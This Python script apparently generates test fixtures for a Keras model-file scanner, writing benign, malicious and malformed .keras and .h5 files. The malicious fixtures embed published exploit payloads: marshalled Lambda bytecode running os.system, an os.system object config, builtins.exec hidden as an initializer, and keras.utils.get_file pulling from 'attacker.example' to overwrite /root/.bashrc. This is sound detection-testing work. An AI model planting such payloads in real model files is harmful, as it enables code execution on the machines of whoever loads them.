#!/usr/bin/python3
"""Keras fixtures: .keras v3 zips (config.json, metadata.json,
model.weights.h5) written as Keras 3's saving_lib lays them out, and HDF5
.h5 models written with h5py as Keras 2's save_model does (model_config,
keras_version, backend attributes on the root group). Malicious ones carry
the published payloads: Lambda bytecode (CVE-2024-3660), module/class_name
outside Keras (CVE-2025-1550), keras.utils.get_file (CVE-2025-8747).

usage: gen_keras.py OUT"""
import base64
import io
import json
import marshal
import os
import sys
import zipfile

import h5py
import numpy as np

from fixture_util import Manifest


def obj(module, cls, config, registered=None):
    return {"module": module, "class_name": cls, "config": config, "registered_name": registered}


def dtype():
    return obj("keras", "DTypePolicy", {"name": "float32"})


def dense(name, units):
    return obj("keras.layers", "Dense", {
        "name": name, "trainable": True, "dtype": dtype(), "units": units, "activation": "relu",
        "use_bias": True,
        "kernel_initializer": obj("keras.initializers", "GlorotUniform", {"seed": None}),
        "bias_initializer": obj("keras.initializers", "Zeros", {}),
        "kernel_regularizer": None}) | {"build_config": {"input_shape": [None, 4]}}


def sequential(layers):
    cfg = obj("keras", "Sequential", {
        "name": "sequential", "trainable": True, "dtype": dtype(),
        "layers": [obj("keras.layers", "InputLayer", {"batch_shape": [None, 4],
                                                       "dtype": "float32", "name": "input"})]
        + layers})
    cfg["compile_config"] = {
        "optimizer": obj("keras.optimizers", "Adam", {"name": "adam", "learning_rate": 0.001}),
        "loss": obj("keras.losses", "MeanSquaredError", {"name": "mse", "reduction": "sum"}),
        "metrics": None}
    return cfg


def payload_code():
    """What a pickled-lambda payload compiles to: os.system on call."""
    fn = eval("lambda x: __import__('os').system('id') or x")
    return base64.b64encode(marshal.dumps(fn.__code__)).decode()


def lambda3(name):
    return obj("keras.layers", "Lambda", {
        "name": name, "trainable": True, "dtype": dtype(),
        "function": {"class_name": "__lambda__",
                     "config": {"code": payload_code(), "defaults": None, "closure": None}},
        "arguments": {}})


def weights_h5():
    b = io.BytesIO()
    with h5py.File(b, "w") as f:
        g = f.create_group("layers/dense/vars")
        g.create_dataset("0", data=np.zeros((4, 2), np.float32))
        g.create_dataset("1", data=np.zeros(2, np.float32))
    return b.getvalue()


def keras_zip(config, raw_config=None, with_config=True):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.3.3",
                                                "date_saved": "2026-12-06@12:00:00"}))
        if with_config:
            z.writestr("config.json", raw_config if raw_config is not None else json.dumps(config))
        z.writestr("model.weights.h5", weights_h5())
    return b.getvalue()


def keras2_config(layers):
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32",
                                                "name": "input_1"}}] + layers},
            "keras_version": "2.12.0", "backend": "tensorflow"}


def dense2(name):
    return {"class_name": "Dense", "config": {"name": name, "units": 2, "activation": "relu",
                                              "kernel_initializer": {"class_name": "GlorotUniform",
                                                                     "config": {"seed": None}}}}


def lambda2(name):
    return {"class_name": "Lambda", "config": {
        "name": name, "function": [payload_code(), None, None], "function_type": "lambda",
        "module": "__main__", "output_shape": None, "arguments": {}}}


def write_h5(path, config, fixed=False, attr=None):
    with h5py.File(path, "w") as f:
        if attr is not None:
            f.attrs["model_config"] = attr
        elif config is not None:
            s = json.dumps(config)
            f.attrs["model_config"] = np.bytes_(s.encode()) if fixed else s
        f.attrs["keras_version"] = "2.12.0"
        f.attrs["backend"] = "tensorflow"
        g = f.create_group("model_weights/dense")
        g.create_dataset("dense/kernel:0", data=np.zeros((4, 2), np.float32))


def main():
    out = sys.argv[1]
    m = Manifest(out, "keras")
    # Benign.
    m.add("benign", "dense.keras", keras_zip(sequential([dense("dense", 2), dense("out", 1)])),
          why="Keras 3 Sequential")
    write_h5(os.path.join(out, "benign", "dense.h5"), keras2_config([dense2("dense")]))
    m.add_file("benign", "dense.h5", why="Keras 2 HDF5 model, variable-length string")
    write_h5(os.path.join(out, "benign", "fixed-string.h5"), keras2_config([dense2("dense")]),
             fixed=True)
    m.add_file("benign", "fixed-string.h5", why="model_config as a fixed-length string")
    write_h5(os.path.join(out, "benign", "weights-only.h5"), None)
    m.add_file("benign", "weights-only.h5", why="weights without a model_config")

    # Malicious.
    m.add("malicious", "lambda-bytecode.keras",
          keras_zip(sequential([dense("dense", 2), lambda3("lambda")])),
          ["lambda-layer"], "Keras 3 Lambda with __lambda__ bytecode (CVE-2024-3660)")
    m.add("malicious", "module-os-system.keras",
          keras_zip(sequential([dense("dense", 2), obj("os", "system", {"command": "id"})])),
          ["denied-object"], "module os, class_name system (CVE-2025-1550)")
    nested = dense("dense", 2)
    nested["config"]["kernel_initializer"] = obj("builtins", "exec",
                                                 {"source": "import os; os.system('id')"})
    m.add("malicious", "initializer-exec.keras", keras_zip(sequential([nested])),
          ["denied-object"], "builtins.exec hidden as an initializer")
    m.add("malicious", "get-file.keras",
          keras_zip(sequential([obj("keras.utils", "get_file", {
              "origin": "https://attacker.example/payload", "fname": "/root/.bashrc"})])),
          ["denied-object"], "keras.utils.get_file (CVE-2025-8747)")
    m.add("malicious", "foreign-module.keras",
          keras_zip(sequential([obj("evilpkg.layers", "Backdoor", {"name": "b"},
                                    "evilpkg>Backdoor")])),
          ["foreign-module"], "a module outside Keras")
    write_h5(os.path.join(out, "malicious", "lambda.h5"),
             keras2_config([dense2("dense"), lambda2("lambda")]))
    m.add_file("malicious", "lambda.h5", ["lambda-layer"], "Keras 2 Lambda bytecode in .h5")
    write_h5(os.path.join(out, "malicious", "lambda-fixed.h5"),
             keras2_config([lambda2("lambda")]), fixed=True)
    m.add_file("malicious", "lambda-fixed.h5", ["lambda-layer"], "same, fixed-length string")
    inner = keras_zip(sequential([lambda3("lambda")]))
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        z.writestr("model.keras", inner)
        z.writestr("README.md", "a model")
    m.add("malicious", "bundle.zip", b.getvalue(), ["lambda-layer"],
          "a .keras inside a zip package: not a lone file, its members are walked")

    # Malformed.
    m.add("malformed", "not-a-zip.keras", b"\x00" * 64 + b"garbage", ["archive"],
          "named .keras, not a zip")
    m.add("malformed", "no-config.keras", keras_zip(None, with_config=False), ["archive"],
          "no config.json")
    m.add("malformed", "bad-json.keras", keras_zip(None, raw_config='{"module": "keras", '),
          ["config"], "config.json cut short")
    m.add("malformed", "duplicate-key.keras",
          keras_zip(None, raw_config='{"class_name": "Sequential", "class_name": "Lambda"}'),
          ["config"], "duplicate key")
    write_h5(os.path.join(out, "malformed", "int-config.h5"), None, attr=np.int64(7))
    m.add_file("malformed", "int-config.h5", ["hdf5"], "model_config is an integer")
    good = open(os.path.join(out, "benign", "dense.h5"), "rb").read()
    m.add("malformed", "truncated.h5", good[:600], ["hdf5"], "HDF5 cut at 600 bytes")
    m.write()


if __name__ == "__main__":
    main()
